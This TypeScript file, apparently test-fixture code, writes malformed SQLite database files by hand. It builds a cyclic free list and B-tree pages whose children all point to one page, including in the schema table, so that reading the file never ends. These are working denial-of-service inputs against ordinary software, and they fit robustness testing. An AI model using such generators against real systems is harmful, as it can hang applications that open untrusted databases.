/** Writes malicious database files without SQLite. Reading one never ends, or makes SQLite write to other files. */
import {Buffer} from 'node:buffer';
import {closeSync, existsSync, ftruncateSync, openSync, readFileSync, truncateSync, writeSync} from 'node:fs';
import {DatabaseSync} from 'node:sqlite';

const pageBytes = 4096;

/**
Writes an empty database with a cyclic free list and auto-vacuum. SQLite searches that list for a very long time before it creates a table.

@param journal - 1: a rollback journal, created on the first write. 2: a WAL.
*/
export function writeFreeListCycle(file: string, {journal, freePages}: {journal: 1 | 2; freePages: number}): void {
	const first = Buffer.alloc(pageBytes);
	first.write('SQLite format 3\0', 'latin1');
	first.writeUInt16BE(pageBytes, 16);
	first.set([journal, journal, 0, 64, 32, 32], 18);
	for (const [offset, value] of [
		[24, 3],
		[28, freePages + 100],
		[32, 4],
		[36, freePages],
		[52, 1],
		[56, 1],
		[92, 3],
		[96, 3_040_001],
	] as const) {
		first.writeUInt32BE(value, offset);
	}

	first[100] = 13;
	first.writeUInt16BE(pageBytes, 105);
	const pointers = Buffer.alloc(pageBytes);
	pointers[0] = 2;
	const trunk = (next: number): Uint8Array => {
		const page = Buffer.alloc(pageBytes);
		page.writeUInt32BE(next, 0);
		page.writeUInt32BE(1, 4);
		page.writeUInt32BE(10, 8);
		return page;
	};

	const descriptor = openSync(file, 'r+');
	ftruncateSync(descriptor, 0);
	writeSync(descriptor, Buffer.concat([first, pointers, Buffer.alloc(pageBytes), trunk(5), trunk(4)]));
	ftruncateSync(descriptor, (freePages + 100) * pageBytes);
	closeSync(descriptor);
	if (existsSync(`${file}-wal`)) {
		truncateSync(`${file}-wal`);
	}
}

/** Returns an interior page whose children are all the same page. */
function interiorPage(child: number, {base = 0, header = Buffer.alloc(0)} = {}): Uint8Array {
	const page = Buffer.alloc(pageBytes);
	header.copy(page);
	const cellBytes = 5;
	let count = 0;
	let end = pageBytes;
	while (end - cellBytes >= base + 12 + 2 * (count + 1)) {
		end -= cellBytes;
		page.writeUInt32BE(child, end);
		page[end + 4] = 1;
		page.writeUInt16BE(end, base + 12 + 2 * count);
		count++;
	}

	page[base] = 5;
	page.writeUInt16BE(count, base + 3);
	page.writeUInt16BE(end, base + 5);
	page.writeUInt32BE(child, base + 8);
	return page;
}

function append(file: string, pages: readonly Uint8Array[]): number {
	const bytes = readFileSync(file);
	const first = bytes.length / pageBytes;
	const descriptor = openSync(file, 'r+');
	writeSync(descriptor, Buffer.concat(pages), 0, undefined, bytes.length);
	const count = Buffer.alloc(4);
	count.writeUInt32BE(first + pages.length);
	writeSync(descriptor, count, 0, 4, 28);
	closeSync(descriptor);
	return first;
}

function overwritePage(file: string, number: number, page: Uint8Array): void {
	const descriptor = openSync(file, 'r+');
	writeSync(descriptor, page, 0, page.length, (number - 1) * pageBytes);
	closeSync(descriptor);
}

/** Gives a table more rows than can ever be read. Each page above the leaves refers to the page below it hundreds of times. */
export function shareChildren(file: string, table: string, levels: number): void {
	const database = new DatabaseSync(file);
	const {root} = database.prepare('SELECT rootpage AS root FROM sqlite_schema WHERE name = ?').get(table)!;
	database.close();
	const rowsPage = readFileSync(file).subarray((Number(root) - 1) * pageBytes, Number(root) * pageBytes);
	const below = readFileSync(file).length / pageBytes + 1;
	const above = Array.from({length: levels - 1}, (_, level) => interiorPage(below + level));
	append(file, [Buffer.from(rowsPage), ...above]);
	overwritePage(file, Number(root), interiorPage(below + levels - 1));
}

/** Does the same for a table without row ids, whose interior pages also contain rows. */
export function shareIndexChildren(file: string, table: string, levels: number): void {
	const database = new DatabaseSync(file);
	const {root} = database.prepare('SELECT rootpage AS root FROM sqlite_schema WHERE name = ?').get(table)!;
	database.close();
	const rowsPage = Buffer.from(readFileSync(file).subarray((Number(root) - 1) * pageBytes, Number(root) * pageBytes));
	const firstRow = rowsPage.readUInt16BE(8);
	const row = rowsPage.subarray(firstRow, firstRow + 1 + rowsPage[firstRow]!);
	const below = readFileSync(file).length / pageBytes + 1;
	const above = Array.from({length: levels}, (_, level) => {
		const page = Buffer.alloc(pageBytes);
		let count = 0;
		let end = pageBytes;
		while (end - 4 - row.length >= 12 + 2 * (count + 1)) {
			end -= 4 + row.length;
			page.writeUInt32BE(below + level, end);
			row.copy(page, end + 4);
			page.writeUInt16BE(end, 12 + 2 * count);
			count++;
		}

		page[0] = 2;
		page.writeUInt16BE(count, 3);
		page.writeUInt16BE(end, 5);
		page.writeUInt32BE(below + level, 8);
		return page;
	});
	append(file, [rowsPage, ...above]);
	overwritePage(file, Number(root), above.at(-1)!);
}

/** Makes the schema table endless, which SQLite reads first. */
export function shareSchemaChildren(file: string, levels: number): void {
	const first = readFileSync(file).subarray(0, pageBytes);
	const count = first.readUInt16BE(103);
	const start = first.readUInt16BE(105);
	const offsets = Array.from({length: count}, (_, cell) => first.readUInt16BE(108 + 2 * cell));
	const leafOf = (cells: readonly number[]): Uint8Array => {
		const page = Buffer.alloc(pageBytes);
		first.copy(page, start, start);
		page[0] = 13;
		page.writeUInt16BE(cells.length, 3);
		page.writeUInt16BE(start, 5);
		for (const [position, cell] of cells.entries()) {
			page.writeUInt16BE(cell, 8 + 2 * position);
		}

		return page;
	};

	const textAt = (cell: number): string => first.toString('latin1', cell, cell + 60);
	const index = offsets.filter((cell) => textAt(cell).includes('sqlite_autoindex') && !textAt(cell).includes('CREATE'));
	const rowsPage = leafOf([index.at(-1)!]);
	const all = leafOf(offsets);
	const below = readFileSync(file).length / pageBytes + 1;
	const above = Array.from({length: levels}, (_, level) => interiorPage(below + 1 + level));
	append(file, [all, rowsPage, ...above]);
	const top = Buffer.from(interiorPage(below + 1 + levels, {base: 100, header: readFileSync(file).subarray(0, 100)}));
	// The first child contains the real tables.
	top.writeUInt32BE(below, top.readUInt16BE(112));
	overwritePage(file, 1, top);
}
